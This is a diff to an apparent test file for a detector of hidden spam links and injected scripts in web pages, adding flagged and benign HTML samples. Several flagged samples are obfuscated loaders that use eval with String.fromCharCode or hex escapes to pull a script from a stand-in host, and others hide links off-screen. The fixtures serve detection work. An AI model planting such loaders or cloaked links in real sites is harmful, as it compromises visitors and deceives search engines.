@@ -17,6 +17,13 @@ CARDS = OUTSIDE.format("棋牌")
 THREE = PLAIN + '<a href="http://stranger-two.net/">阀门厂</a><a href="http://stranger-three.cn/">服装厂</a>'
 FRAME = '<iframe src="http://stranger-one.com/c.html"{}></iframe>'
 
+LOADER = '<script src="http://stranger-one.com/x.js"></script>'
+
+
+def codes(text: str) -> str:
+    return ",".join(str(ord(c)) for c in text)
+
+
 FOUND = [
     ("off the screen", f'<div style="position:absolute;left:-9999px">{PLAIN}</div>', "offscreen"),
     ("above the screen", f'<div style="POSITION: fixed; top: -2000px">{PLAIN}</div>', "offscreen"),
@@ -52,6 +59,27 @@ FOUND = [
         "written in escapes",
         "<script>document.write('" + "".join(f"\\u{ord(c):04x}" for c in GAMES) + "')</script>",
         "written",
+    ),
+    (
+        "in a box whose beginning and end scripts write",
+        "<script>document.write('<div style=\"display:none\">')</script>"
+        f"{PLAIN}<script>document.write('</div>')</script>",
+        "by-script",
+    ),
+    (
+        "in a box of nothing in both directions",
+        f'<div style="position:absolute;overflow:hidden;height:0;width:0">{PLAIN}</div>',
+        "box",
+    ),
+    (
+        "a script in codes that loads a stranger's",
+        f"<script>eval(String.fromCharCode({codes(LOADER)}))</script>",
+        "encoded",
+    ),
+    (
+        "a script in escapes that loads a stranger's",
+        "<script>window['document']['write']('" + "".join(f"\\x{ord(c):02x}" for c in LOADER) + "')</script>",
+        "encoded",
     ),
     ("in sight, but with telling words", f"<p>{GAMES}</p>", "shown"),
     ("a frame of no size", FRAME.format(' width="0" height="0"'), "frame"),
@@ -141,6 +169,18 @@ HONEST = [
     (
         "a maker's name written by a script",
         "<script>document.write('<a href=\"http://www.stranger-one.com/\">技术支持：某某科技</a>')</script>",
+    ),
+    (
+        "a counter loaded in the old way",
+        "<script>document.write(unescape(\"%3Cscript src='http://tj.stranger-one.com/c.js'%3E%3C/script%3E\"))</script>",
+    ),
+    (
+        "a box that a script writes whole, before a link",
+        "<script>document.write('<div style=\"display:none\">二维码</div>')</script>" + PLAIN,
+    ),
+    (
+        "a script with a few escapes",
+        '<script>var t="\\x3cb\\x3e";document.write("<script src=\'http://tj.stranger-one.com/c.js\'><\\/script>")</script>',
     ),
     (
         "readers with phones are sent to the version for phones",
